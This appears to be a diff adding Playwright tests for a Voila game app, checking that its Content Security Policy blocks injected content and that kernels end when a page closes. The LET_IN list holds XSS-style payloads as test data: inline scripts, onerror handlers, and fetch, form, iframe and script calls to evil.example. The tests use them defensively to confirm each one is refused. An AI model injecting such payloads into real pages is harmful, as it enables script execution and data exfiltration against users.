@@ -1,0 +1,143 @@
+"""Under the policy of our pages everything works, and nothing that is not ours runs."""
+
+from __future__ import annotations
+
+import json
+import random
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+from urllib.error import HTTPError
+from urllib.request import urlopen
+
+import pytest
+from playwright.sync_api import Browser, Page, expect
+
+from .conftest import close, voila_on
+from .test_voila_game import SECONDS, offered, option, painted, rev, wanted
+
+#: Keeps what the policy refuses from the first line of the page on.
+LISTEN = """
+window.refused = [];
+addEventListener("securitypolicyviolation",
+  (e) => window.refused.push(`${e.effectiveDirective} ${e.blockedURI} ${e.sourceFile || ""}:${e.lineNumber}`));
+"""
+#: What somebody could get into a page who found a way: each as the part of the policy that it meets, and its doing;
+#: `e` is a place on the page, `add` puts an element of that kind there.
+LET_IN = [
+    ("script-src-elem", "add('script', {textContent: 'hurt=1'})"),
+    ("script-src-elem", "add('script', {src: 'https://evil.example/a.js'})"),
+    ("script-src-elem", "add('a', {href: 'javascript:hurt=1'}).click()"),
+    ("script-src-attr", "e.innerHTML = '<img src=/none.png onerror=\"hurt=1\">'"),
+    ("script-src", "setTimeout('hurt=1')"),
+    ("img-src", "add('img', {src: 'https://evil.example/a.png'})"),
+    ("style-src-elem", "add('link', {rel: 'stylesheet', href: 'https://evil.example/a.css'})"),
+    ("connect-src", "fetch('https://evil.example/').catch(() => 0)"),
+    ("frame-src", "add('iframe', {src: 'https://evil.example/'})"),
+    ("object-src", "add('object', {data: 'https://evil.example/a'})"),
+    ("form-action", "add('form', {action: 'https://evil.example/'}).requestSubmit()"),
+    ("base-uri", "add('base', {href: 'https://evil.example/'})"),
+]
+PLACE = """() => {
+  refused.length = 0;
+  const e = document.getElementById('e') || document.body.appendChild(document.createElement('div'));
+  e.id = 'e';
+  const add = (name, more) => e.appendChild(Object.assign(document.createElement(name), more));
+  DOING;
+}"""
+
+
+@pytest.fixture
+def watched(page: Page) -> Page:
+    """A page that tells what its policy refused."""
+    page.add_init_script(LISTEN)
+    page.set_default_timeout(30 * SECONDS)
+    return page
+
+
+def kernel_of(page: Page) -> str:
+    said: dict[str, Any] = json.loads(page.locator("#jupyter-config-data").text_content() or "{}")
+    return str(said["kernelId"])
+
+
+def test_a_game_a_file_and_a_replay_under_the_policy(watched: Page, voila: Any) -> None:
+    """Moves, the settings, a saved and a loaded file, a replay with its export: nothing of it is refused.
+
+    When the page is closed its kernel ends, although the server asks for proof that the page says so.
+    """
+    page = watched
+    page.goto(f"{voila.url}?players=Ana,Ben&bots=Ben:collector&seed=7&start=1")
+    expect(page.locator("[data-zone=pyramid]")).to_be_visible()
+    rng = random.Random(7)
+    for _ in range(8):
+        before = rev(page)
+        option(page, wanted(offered(page), rng)).click()
+        painted(page, before)
+    page.locator("[data-act=settings]").click()
+    page.locator("[name=theme]").select_option("dark")
+    page.keyboard.press("Escape")
+    with page.expect_download() as saved:
+        page.locator(".vk-tools [data-act=save]").click()
+    assert Path(saved.value.path()).stat().st_size > 500
+    assert page.evaluate("refused") == []
+    page.goto(f"{voila.url}?replay=boat&step=5")
+    page.locator("[data-go=next]").click()
+    expect(page.locator("[data-step='6']").first).to_be_visible()
+    assert page.evaluate("refused") == []
+    kernel = kernel_of(page)
+    assert alive(voila.url, kernel)
+    other = page.context.new_page()  # a browser without a page would end with the last one, its message unsent
+    close(page)
+    for _ in range(300):
+        if not alive(voila.url, kernel):
+            break
+        other.wait_for_timeout(100)
+    assert not alive(voila.url, kernel)
+
+
+def alive(url: str, kernel: str) -> bool:
+    try:
+        with urlopen(f"{url}api/kernels/{kernel}", timeout=30) as answer:
+            return bool(answer.status == 200)
+    except HTTPError:
+        return False
+
+
+def test_what_is_let_into_a_page_does_nothing(chromium: Browser, voila: Any) -> None:
+    """Should a text become markup one day, it can neither run nor call home."""
+    context = chromium.new_context()
+    context.add_init_script(LISTEN)
+    asked: list[str] = []
+    context.route("https://evil.example/**", lambda route: (asked.append(route.request.url), route.abort()))
+    page = context.new_page()
+    page.set_default_timeout(30 * SECONDS)
+    page.goto(voila.url)
+    expect(page.locator("[data-act=start]")).to_be_visible()
+    for part, doing in LET_IN:
+        page.evaluate(PLACE.replace("DOING", doing))
+        page.wait_for_function("() => refused.length > 0")
+        assert [one.split()[0] for one in page.evaluate("refused")] == [part], doing
+        assert page.evaluate("typeof hurt") == "undefined", doing
+    assert asked == []
+    context.close()
+
+
+@pytest.fixture(scope="module")
+def lessons(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
+    """Voila on all notebooks."""
+    folder = tmp_path_factory.mktemp("lessons")
+    with voila_on("notebooks", folder, VK_PROGRESS=str(folder / "progress.json")) as server:
+        yield server.url
+
+
+def test_the_lessons_under_the_policy(watched: Page, lessons: str) -> None:
+    """The list leads to the start page, and a lesson stands with its boards."""
+    watched.goto(lessons)
+    watched.wait_for_url("**/00_start_here.ipynb")
+    expect(watched.locator("h1").first).to_be_visible()
+    assert watched.evaluate("refused") == []
+    link = watched.locator("a[href*='01']").first.get_attribute("href")
+    assert link
+    watched.goto(f"{lessons}voila/render/{link.rsplit('/', 1)[-1]}")
+    expect(watched.locator(".vk-board").first).to_be_visible()
+    assert watched.evaluate("refused") == []
